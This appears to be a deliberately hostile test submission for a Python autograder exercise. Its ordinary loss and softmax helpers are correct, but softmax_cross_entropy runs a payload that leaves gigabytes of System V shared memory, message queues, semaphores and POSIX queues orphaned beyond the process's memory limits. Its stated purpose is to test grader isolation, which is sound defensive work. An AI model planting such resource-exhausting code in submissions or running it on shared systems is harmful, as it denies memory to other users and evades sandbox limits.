"""BPGRADE-HOSTILE submission for exercise04 (attack: sysv_ipc).

The reference solution, except softmax_cross_entropy, the last function called: on its first
call it makes kernel objects that belong to no process, so that they outlive the learner's
process, and whose memory no limit on the process counts, then raises:

- a System V shared memory segment of 2 GiB, created and left (it cannot be attached under a
  1 GiB address-space limit, so it is tried, not relied on);
- eight segments of 256 MiB, each attached, written page by page (so resident), detached and
  left: 2 GiB of memory held by nobody's process;
- 16 System V message queues filled until they refuse more, 16 semaphore sets;
- 4 POSIX message queues (mq_open).

A grader that limits only the process's address space lets it hold 2 GiB past the 1 GiB limit
after the exercise and after the grader (until someone runs ipcrm). The grader must bound
shared memory per exercise and remove every IPC object the learner's code made when its
exercise ends (an IPC namespace, or removing the objects of the learner's uid). The other
functions are correct and softmax_cross_entropy always raises: mse_loss, mse_backward, softmax
and softmax.stable pass, whatever happened to the memory.

Safe to run by mistake: it writes only while the machine's MemAvailable stays 2 GiB above the
next segment; nothing it did not make is removed or changed; every attempt is wrapped.
"""

import contextlib
import ctypes
import ctypes.util
import os

import numpy as np

GIB = 1 << 30
BIG_SEGMENT = 2 * GIB
PIECE = 256 << 20
PIECES = 8
SPARE = 2 * GIB
QUEUES = 16
SEMAPHORE_SETS = 16
POSIX_QUEUES = 4
IPC_PRIVATE = 0
IPC_CREAT = 0o1000
IPC_NOWAIT = 0o4000
_held: list[str] = []


def _available() -> int:
    try:
        with open("/proc/meminfo") as file:
            for line in file:
                if line.startswith("MemAvailable:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError):
        pass
    return 0  # no /proc: write nothing


def _libc() -> ctypes.CDLL:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    libc.msgsnd.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    return libc


def _attached(address: int | None) -> bool:
    return address is not None and address != ctypes.c_void_p(-1).value


def _fill(libc: ctypes.CDLL, segment: int, size: int) -> bool:
    address = libc.shmat(segment, None, 0)
    if not _attached(address):
        return False
    try:
        for offset in range(0, size, PIECE):
            if _available() < PIECE + SPARE:
                return False
            ctypes.memset(address + offset, 1, min(PIECE, size - offset))
        return True
    finally:
        libc.shmdt(address)


def _shared_memory(libc: ctypes.CDLL) -> None:
    big = libc.shmget(IPC_PRIVATE, BIG_SEGMENT, IPC_CREAT | 0o600)
    if big >= 0:
        _held.append(f"shm {big} of 2 GiB")
        with contextlib.suppress(Exception):
            if _fill(libc, big, BIG_SEGMENT):
                _held.append("filled the 2 GiB segment")
    for _ in range(PIECES):
        segment = libc.shmget(IPC_PRIVATE, PIECE, IPC_CREAT | 0o600)
        if segment < 0:
            break
        filled = _fill(libc, segment, PIECE)
        _held.append(f"shm {segment} of 256 MiB" + (" filled" if filled else ""))


def _queues(libc: ctypes.CDLL) -> None:
    message = ctypes.create_string_buffer(8 + 4096)
    ctypes.c_long.from_buffer(message).value = 1  # mtype
    for _ in range(QUEUES):
        queue = libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
        if queue < 0:
            break
        sent = 0
        while sent < 64 and libc.msgsnd(queue, message, 4096, IPC_NOWAIT) == 0:
            sent += 1
        _held.append(f"msg {queue} with {sent} messages")
    for _ in range(SEMAPHORE_SETS):
        semaphores = libc.semget(IPC_PRIVATE, 8, IPC_CREAT | 0o600)
        if semaphores < 0:
            break
        _held.append(f"sem {semaphores}")


def _posix_queues() -> None:
    name = ctypes.util.find_library("rt")
    library = ctypes.CDLL(name, use_errno=True) if name else ctypes.CDLL(None, use_errno=True)
    library.mq_open.restype = ctypes.c_int
    for index in range(POSIX_QUEUES):
        path = f"/bpgrade-hostile-{os.getpid()}-{index}".encode()
        descriptor = library.mq_open(path, os.O_CREAT | os.O_RDWR, 0o600, None)
        if descriptor >= 0:
            _held.append(f"mqueue {path.decode()}")


def _abuse() -> None:
    if _held:
        return
    _held.append("started")
    libc = _libc()
    for step in (_shared_memory, _queues):
        with contextlib.suppress(Exception):
            step(libc)
    with contextlib.suppress(Exception):
        _posix_queues()
    with contextlib.suppress(Exception):
        print("sysv_ipc: left", "; ".join(_held))


def mse_loss(Y_hat: np.ndarray, Y: np.ndarray) -> float:
    return float(np.mean((Y_hat - Y) ** 2))


def mse_backward(Y_hat: np.ndarray, Y: np.ndarray) -> np.ndarray:
    return 2.0 * (Y_hat - Y) / Y.size


def softmax(Z: np.ndarray) -> np.ndarray:
    shifted = Z - Z.max(axis=1, keepdims=True)
    with np.errstate(under="ignore"):
        e = np.exp(shifted)
    return e / e.sum(axis=1, keepdims=True)


def softmax_cross_entropy(logits: np.ndarray, labels: np.ndarray) -> tuple[float, np.ndarray]:
    _abuse()
    raise RuntimeError("sysv_ipc: this function only holds memory")
